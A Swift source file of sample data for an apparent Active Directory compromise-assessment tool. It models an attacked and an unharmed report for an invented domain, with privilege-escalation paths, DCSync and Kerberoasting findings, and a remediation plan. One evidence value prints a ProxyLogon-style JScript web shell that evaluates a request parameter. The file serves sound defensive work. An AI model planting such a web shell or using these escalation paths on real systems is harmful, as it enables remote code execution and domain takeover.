import Assessment
import Directory

/// Two assessments of an invented company, `nordwind.example`: attacked, and the same company unharmed.
enum Sample {
  static let base = "DC=nordwind,DC=example"
  static let exchange = Principal(
    dn: "CN=EX01,OU=Server,\(base)", sid: "S-1-5-21-1004336348-1177238915-682003330-1612", name: "EX01$")
  static let ets = "CN=Exchange Trusted Subsystem,OU=Microsoft Exchange Security Groups,\(base)"
  static let ewp = "CN=Exchange Windows Permissions,OU=Microsoft Exchange Security Groups,\(base)"
  static let admins = "CN=Domänen-Admins,CN=Users,\(base)"
  static let organization = "CN=Organization Management,OU=Microsoft Exchange Security Groups,\(base)"

  static func at(_ text: String) -> Instant { Instant(iso8601: text) ?? Instant(seconds: 0) }

  static func step(
    _ edge: String, _ from: (dn: String, name: String, kind: String),
    _ to: (dn: String, name: String, kind: String),
    technique: String, since: String? = nil, until: String? = nil, certainty: Reach.Certainty = .certain,
    condition: Text? = nil, value: String, attribute: String = "nTSecurityDescriptor", shownBy: [String] = []
  ) -> Reach.Step {
    Reach.Step(
      edge: edge, from: from.dn, to: to.dn, fromName: from.name, toName: to.name, fromKind: from.kind,
      toKind: to.kind, technique: technique, certainty: certainty, condition: condition, since: since.map(at),
      until: until.map(at), evidence: Evidence(dn: to.dn, attribute: attribute, value: value),
      shownBy: shownBy)
  }

  static let host = (dn: exchange.dn, name: "EX01$", kind: "computer")
  static let trusted = (dn: ets, name: "Exchange Trusted Subsystem", kind: "group")
  static let windows = (dn: ewp, name: "Exchange Windows Permissions", kind: "group")
  static let domain = (dn: base, name: "nordwind.example", kind: "domainDNS")
  static let adminGroup = (dn: admins, name: "Domänen-Admins", kind: "group")
  static let backup = (dn: "CN=svc-backup,OU=Dienste,\(base)", name: "svc-backup", kind: "user")
  static let manager = (dn: organization, name: "Organization Management", kind: "group")
  static let controller = (dn: "CN=DC01,OU=Domain Controllers,\(base)", name: "DC01$", kind: "computer")

  static let toGroups = [
    step(
      "MemberOf", host, trusted, technique: "T1078.002", since: "2016-05-11T08:14:02Z",
      value: "CN=EX01,OU=Server,\(base)",
      attribute: "member"),
    step(
      "MemberOf", trusted, windows, technique: "T1078.002", since: "2016-05-11T08:02:47Z", value: ets,
      attribute: "member"),
  ]

  static func domainPath(shownBy: [String], excluded: Bool) -> Reach.Path {
    Reach.Path(
      target: Principal(dn: base, sid: "S-1-5-21-1004336348-1177238915-682003330", name: "nordwind.example"),
      targetIs: Text(
        en: "Head of the domain: whoever controls it reads every password hash.",
        de: "Kopf der Domäne: Wer ihn beherrscht, liest alle Kennwort-Hashes."),
      certainty: .certain, excluded: excluded,
      excludedBecause: excluded
        ? Text(
          en:
            "The permissions of the domain head have not changed since 2016; this route would have changed them.",
          de:
            "Die Berechtigungen des Domänenkopfs wurden seit 2016 nicht geändert; dieser Weg hätte sie geändert."
        ) : nil,
      steps: toGroups + [
        step(
          "WriteDacl", windows, domain, technique: "T1222.001", since: "2016-05-11T08:03:10Z",
          value: "(A;CI;WD;;;S-1-5-21-1004336348-1177238915-682003330-1121)", shownBy: shownBy)
      ])
  }

  static let adminPath = Reach.Path(
    target: Principal(
      dn: admins, sid: "S-1-5-21-1004336348-1177238915-682003330-512", name: "Domänen-Admins"),
    certainty: .certain, excluded: false,
    steps: toGroups + [
      step(
        "ForceChangePassword", windows, backup, technique: "T1098",
        value: "(OA;;CR;00299570-246d-11d0-a768-00aa006e0529;;EWP)"
      ),
      step(
        "MemberOf", backup, adminGroup, technique: "T1078.002", since: "2021-03-04T02:41:09Z",
        value: backup.dn,
        attribute: "member", shownBy: ["A01-0001"]),
    ])

  static let controllerPath = Reach.Path(
    target: Principal(dn: controller.dn, sid: nil, name: "DC01$"), certainty: .conditional, excluded: false,
    steps: [
      step(
        "CoerceToTGT", host, controller, technique: "T1187", certainty: .conditional,
        condition: Text(
          en: "The domain controller must be made to log on to EX01.",
          de: "Der Domänencontroller muss dazu gebracht werden, sich an EX01 anzumelden."),
        value: "532480", attribute: "userAccountControl")
    ])

  static let findings = [
    Finding(
      id: "C01-0001", rule: "IND-C01", weight: .decisive, object: base, objectName: "nordwind.example",
      attribute: "nTSecurityDescriptor", when: at("2021-03-04T02:38:51Z"), originator: "DC02",
      technique: "T1003.006",
      title: Text(
        en: "The account svc-backup may read all password hashes of the domain (DCSync)",
        de: "Das Konto svc-backup darf alle Kennwort-Hashes der Domäne auslesen (DCSync)"),
      explained: Text(
        en:
          "Only domain controllers need this right. The permissions of the domain head were last changed at night, from DC02.",
        de:
          "Dieses Recht benötigen nur Domänencontroller. Die Berechtigungen des Domänenkopfs wurden zuletzt nachts auf DC02 geändert."
      ),
      evidence: [
        Evidence(
          dn: base, attribute: "nTSecurityDescriptor",
          value:
            "(OA;;CR;1131f6ad-9c07-11d1-f79f-00c04fc2dcd2;;S-1-5-21-1004336348-1177238915-682003330-2204)"),
        Evidence(
          dn: base, attribute: "msDS-ReplAttributeMetaData",
          value: "nTSecurityDescriptor version 9, 2021-03-04T02:38:51Z, DC02, USN 918222"),
      ]),
    Finding(
      id: "A01-0001", rule: "IND-A01", weight: .decisive, object: admins, objectName: "Domänen-Admins",
      attribute: "member", when: at("2021-03-04T02:41:09Z"), originator: "DC02", technique: "T1098.007",
      title: Text(
        en: "svc-backup became a member of Domain Admins", de: "svc-backup wurde Mitglied der Domänen-Admins"),
      explained: Text(
        en: "The account is a service account; no service needs this membership.",
        de: "Das Konto ist ein Dienstkonto; kein Dienst benötigt diese Mitgliedschaft."),
      review: .malicious,
      evidence: [
        Evidence(
          dn: admins, attribute: "msDS-ReplValueMetaData",
          value: "\(backup.dn) version 1, created 2021-03-04T02:41:09Z, DC02")
      ]),
    Finding(
      id: "G01-0001", rule: "IND-G01", weight: .strong,
      object:
        "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EX01,CN=Servers,CN=Nordwind,CN=Microsoft Exchange,\(base)",
      objectName: "OAB (Default Web Site)", attribute: "msExchExternalHostName",
      when: at("2021-03-03T04:17:30Z"),
      originator: "DC01", technique: "T1505.003",
      title: Text(
        en: "Script code in the external address of the offline address book",
        de: "Programmcode in der externen Adresse des Offline-Adressbuchs"),
      explained: Text(
        en: "This is how a web shell was planted through ProxyLogon.",
        de: "Auf diesem Weg wurden über ProxyLogon Webshells abgelegt."),
      evidence: [
        Evidence(
          dn: "CN=OAB (Default Web Site)", attribute: "msExchExternalHostName",
          value:
            #"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>"#
        )
      ]),
    Finding(
      id: "B01-0001", rule: "IND-B01", weight: .strong, object: backup.dn, objectName: "svc-backup",
      attribute: "servicePrincipalName", when: at("2021-03-12T22:05:00Z"), originator: "DC01",
      technique: "T1558.003",
      title: Text(
        en: "A service principal name was set on svc-backup",
        de: "Ein Dienstprinzipalname wurde an svc-backup gesetzt"),
      explained: Text(
        en: "Anyone may then ask for a ticket and try its password offline.",
        de: "Danach kann jeder ein Ticket anfordern und das Kennwort ohne Verbindung erproben."),
      evidence: [
        Evidence(
          dn: backup.dn, attribute: "servicePrincipalName", value: "MSSQLSvc/old.nordwind.example:1433")
      ]),
    Finding(
      id: "A09-0001", rule: "IND-A09", weight: .supporting, object: "CN=Krüger\\, Ina,OU=Benutzer,\(base)",
      objectName: "ina.krueger", attribute: "unicodePwd", when: at("2021-02-18T09:12:00Z"),
      technique: "T1098",
      title: Text(
        en: "Password reset of an administrator", de: "Kennwort eines Administrators zurückgesetzt"),
      explained: Text(en: "Usual in daily operation.", de: "Im Alltag üblich."), review: .attributed,
      evidence: []),
  ]

  static let checks = [
    Coverage.Check(
      id: "domains",
      title: Text(
        en: "All domains of the forest were collected", de: "Alle Domänen der Gesamtstruktur wurden erhoben"),
      met: true),
    Coverage.Check(
      id: "acl",
      title: Text(
        en: "Permissions of all Tier-0 objects were readable",
        de: "Berechtigungen aller Tier-0-Objekte waren lesbar"), met: true),
    Coverage.Check(
      id: "metadata",
      title: Text(en: "Replication metadata are present", de: "Replikationsmetadaten liegen vor"), met: true),
    Coverage.Check(
      id: "deleted", title: Text(en: "Deleted objects were readable", de: "Gelöschte Objekte waren lesbar"),
      met: false,
      detail: Text(
        en:
          "The account may not list the container Deleted Objects; accounts created and deleted again do not show.",
        de:
          "Das Konto darf den Container Deleted Objects nicht auflisten; angelegte und wieder gelöschte Konten zeigen sich nicht."
      )),
    Coverage.Check(
      id: "logs",
      title: Text(
        en: "Security logs of the domain controllers reach back to the start",
        de: "Sicherheitsprotokolle der Domänencontroller reichen bis zum Beginn zurück"),
      met: false,
      detail: Text(
        en: "No log was submitted; reading access leaves no other trace.",
        de: "Kein Protokoll wurde vorgelegt; lesender Zugriff hinterlässt sonst keine Spur.")),
  ]

  static let inputs = [
    AssessmentReport.Input(
      path: "nordwind/domain.ldif",
      sha256: "5b0d0dd21b4ef0e0b5a7d9c1c4f0a58e5d06f0f1f4a9a4e9f8f9b1d6c7a3e210", bytes: 48_213_900,
      entries: 4_812)
  ]

  static let inventory = Inventory(
    privilegedGroups: [
      .init(
        group: admins, sid: "S-1-5-21-1004336348-1177238915-682003330-512", name: "Domänen-Admins",
        members: [
          .init(dn: "CN=Administrator,CN=Users,\(base)", name: "Administrator", since: nil),
          .init(
            dn: "CN=Krüger\\, Ina,OU=Benutzer,\(base)", name: "ina.krueger",
            via: ["CN=IT-Leitung,OU=Gruppen,\(base)"], since: at("2018-11-05T07:30:00Z")),
          .init(dn: backup.dn, name: "svc-backup", since: at("2021-03-04T02:41:09Z"), recent: true),
        ]),
      .init(group: "CN=Schema-Admins,CN=Users,\(base)", sid: nil, name: "Schema-Admins", members: []),
    ],
    changedAccounts: [
      .init(
        dn: backup.dn, sid: nil, name: "svc-backup", kind: "user", created: true,
        changes: [
          .init(attribute: "unicodePwd", when: at("2021-03-04T02:36:12Z"), version: 2, originator: "DC02"),
          .init(
            attribute: "servicePrincipalName", when: at("2021-03-12T22:05:00Z"), version: 1, originator: nil),
        ])
    ],
    newServicePrincipals: [
      .init(
        dn: backup.dn, sid: nil, name: "svc-backup", kind: "user",
        names: ["MSSQLSvc/old.nordwind.example:1433"], when: at("2021-03-12T22:05:00Z"), originator: "DC01")
    ])

  static let collection = AssessmentReport.Collection(
    folder: "evidence", tool: "foothold 1.0.0", catalogue: "built-in", started: at("2021-04-10T18:20:00Z"),
    finished: at("2021-04-10T18:22:00Z"), complete: true,
    servers: [
      .init(
        url: "ldaps://dc01.nordwind.example", name: "dc01.nordwind.example",
        invocationID: "8d2f6a70-30a5-4d0b-9f1e-5a6b7c8d9e0f", account: "u:NORDWIND\\analyst",
        method: "simple",
        started: at("2021-04-10T18:20:00Z"), clockSkewSeconds: -1_420,
        certificateSHA256: String(repeating: "ab", count: 32), certificateVerified: false)
    ], asked: 24,
    unanswered: [
      .init(
        id: "domain-deleted", server: "ldaps://dc01.nordwind.example", base: "CN=Deleted Objects,\(base)",
        outcome: .refused, reason: "Insufficient access [50]")
    ])

  static let attacked = AssessmentReport(
    tool: .init(name: "foothold", version: "1.0.0"), generated: at("2021-04-12T09:00:00Z"), inputs: inputs,
    collection: [collection],
    scope: .init(
      forest: "nordwind.example", domains: ["nordwind.example"], objects: 4_812,
      collected: at("2021-04-10T18:22:00Z")),
    window: .init(since: at("2021-01-03T00:00:00Z"), until: nil, basis: "default"), footholds: [exchange],
    verdict: Verdict(
      rebuild: .indicated, provisional: true, level: .v3b, notExcluded: .v4,
      summary: Text(
        en:
          "From EX01 an attacker obtained rights over the whole forest nordwind.example on 4 March 2021 and used them to plant an account of his own.",
        de:
          "Von EX01 aus erlangte ein Angreifer am 4. März 2021 Rechte über die gesamte Gesamtstruktur nordwind.example und nutzte sie, um ein eigenes Konto zu verankern."
      ),
      inputs: .init(
        exchange: .exploited, reach: .path, credentials: .host, traces: .decisive, coverage: .partial),
      basis: [
        .init(
          input: "E", value: "E2", source: .stated,
          because: Text(en: "EX01 was named as exploited", de: "EX01 wurde als ausgenutzt benannt")),
        .init(
          input: "D", value: "D3", source: .evidence,
          because: Text(en: "two decisive findings", de: "zwei entscheidende Befunde"),
          findings: ["C01-0001", "A01-0001"]),
      ],
      reasons: ["C01-0001", "A01-0001", "G01-0001"],
      flips: [
        .init(
          condition: Text(
            en: "both decisive findings were attributed to a known person and a work order",
            de: "beide entscheidenden Befunde einer bekannten Person und einem Auftrag zugeordnet würden"),
          to: .init(rebuild: .notIndicated, level: .v2)),
        .init(
          condition: Text(
            en: "one of them were confirmed as malicious", de: "einer davon als bösartig bestätigt würde"),
          to: .init(rebuild: .indicated, level: .v4)),
      ]),
    coverage: Coverage(state: .partial, checks: checks),
    reach: Reach(
      tierZero: .certain, earliest: at("2016-05-11T08:14:02Z"), count: 7,
      paths: [domainPath(shownBy: ["C01-0001"], excluded: false), adminPath, controllerPath]),
    findings: findings, inventory: inventory,
    gaps: [
      .init(
        id: "deleted-objects", what: "nordwind/domain.ldif: no entry below CN=Deleted Objects",
        title: Text(en: "Deleted objects were not collected", de: "Gelöschte Objekte wurden nicht erhoben"),
        objects: 0,
        consequence: Text(
          en: "Accounts created and deleted again in the period remain invisible.",
          de: "Im Zeitraum angelegte und wieder gelöschte Konten bleiben unsichtbar."))
    ],
    plan: [
      PlanStep(
        step: 1,
        title: Text(
          en: "Disconnect EX01 from the internet, do not switch it off",
          de: "EX01 vom Internet trennen, nicht ausschalten"),
        why: Text(
          en: "Memory and disk are evidence.", de: "Arbeitsspeicher und Datenträger sind Beweismittel."),
        objects: [exchange.dn], due: .day),
      PlanStep(
        step: 2,
        title: Text(
          en: "Save the system state of every domain controller",
          de: "Systemstatus jedes Domänencontrollers sichern"),
        why: Text(
          en: "Every reset overwrites metadata that date the attack.",
          de: "Jede Zurücksetzung überschreibt Metadaten, die den Angriff datieren."), due: .day),
      PlanStep(
        step: 3,
        title: Text(
          en: "Disable svc-backup and take its rights away",
          de: "svc-backup sperren und ihm die Rechte entziehen"),
        why: Text(en: "It is the foothold in the directory.", de: "Es ist der Brückenkopf im Verzeichnis."),
        objects: [backup.dn, base], due: .threeDays),
      PlanStep(
        step: 4, title: Text(en: "Reset krbtgt twice", de: "krbtgt zweimal zurücksetzen"),
        why: Text(
          en: "Forged tickets lose their validity.", de: "Gefälschte Tickets verlieren ihre Gültigkeit."),
        due: .twoWeeks),
    ],
    options: [
      RebuildOption(
        id: "O1", title: Text(en: "Rebuild Exchange", de: "Exchange neu aufbauen"), allowed: false,
        why: Text(en: "Excluded from V3a on.", de: "Ab V3a ausgeschlossen."),
        cost: Text(en: "days", de: "Tage")),
      RebuildOption(
        id: "O2",
        title: Text(en: "Renew all credentials in place", de: "Alle Anmeldedaten im Bestand erneuern"),
        allowed: false,
        why: Text(en: "Only without evidence of modification.", de: "Nur ohne Nachweis einer Veränderung."),
        cost: Text(en: "days to weeks", de: "Tage bis Wochen")),
      RebuildOption(
        id: "O3", title: Text(en: "Tier-0 remediation", de: "Tier 0 im Bestand bereinigen"), allowed: true,
        recommended: true,
        why: Text(
          en: "As a minimum, until the review is done.",
          de: "Als Mindestmaß, bis die Prüfung abgeschlossen ist."),
        cost: Text(en: "weeks; residual risk", de: "Wochen; Restrisiko")),
      RebuildOption(
        id: "O4",
        title: Text(
          en: "Recover the forest from a backup", de: "Gesamtstruktur aus einer Sicherung wiederherstellen"),
        allowed: true,
        why: Text(
          en: "Needs a backup older than 3 January 2021.",
          de: "Erfordert eine Sicherung vor dem 3. Januar 2021."),
        cost: Text(
          en: "weeks; all changes since are lost", de: "Wochen; alle Änderungen seither gehen verloren")),
      RebuildOption(
        id: "O5", title: Text(en: "New forest", de: "Neue Gesamtstruktur"), allowed: true,
        why: Text(en: "Always possible.", de: "Immer möglich."), cost: Text(en: "months", de: "Monate")),
    ],
    legal: LegalNotice(
      notifyAuthority: true, examineDataSubjects: true, awareSince: at("2021-04-10T07:00:00Z"),
      deadline: at("2021-04-13T07:00:00Z")),
    backup: .init(
      before: at("2021-01-03T00:00:00Z"), lifetimeDays: 180, usableUntil: at("2021-07-01T00:00:00Z")),
    notExamined: [
      Text(
        en: "Contents of SYSVOL and disks of the domain controllers",
        de: "Inhalte von SYSVOL und Datenträger der Domänencontroller"),
      Text(en: "Database of the certification authority", de: "Datenbank der Zertifizierungsstelle"),
      Text(en: "Hypervisor, backup, cloud services", de: "Virtualisierung, Datensicherung, Cloud-Dienste"),
    ])

  static let unharmed: AssessmentReport = {
    var report = attacked
    report.collection = nil
    report.verdict = Verdict(
      rebuild: .notIndicated, provisional: false, level: .v2, notExcluded: .v3b,
      summary: Text(
        en:
          "From EX01 an attacker could have taken over the forest nordwind.example; the data examined show no indication that it happened.",
        de:
          "Von EX01 aus hätte ein Angreifer die Gesamtstruktur nordwind.example übernehmen können; in den ausgewerteten Daten finden sich keine Anhaltspunkte, dass es geschehen ist."
      ),
      inputs: .init(
        exchange: .exploited, reach: .path, credentials: .host, traces: .none, coverage: .partial),
      reasons: [])
    report.findings = []
    report.inventory = Inventory(privilegedGroups: Array(inventory.privilegedGroups.suffix(1)))
    report.reach = Reach(
      tierZero: .certain, earliest: at("2016-05-11T08:14:02Z"), count: 2,
      paths: [domainPath(shownBy: [], excluded: true), controllerPath])
    report.legal = LegalNotice(
      notifyAuthority: true, examineDataSubjects: false, awareSince: nil, deadline: nil)
    report.backup = nil
    return report
  }()
}
